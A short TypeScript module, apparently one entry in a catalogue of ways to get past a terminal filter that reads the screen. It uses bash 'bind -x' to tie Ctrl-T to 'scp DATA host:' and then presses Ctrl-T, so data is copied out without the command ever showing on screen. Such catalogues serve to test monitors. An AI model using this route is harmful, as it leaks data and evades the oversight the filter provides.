import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by bind -x',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['bind -x \'"\\C-t": scp DATA host:\'\r', '\u0014'],
};
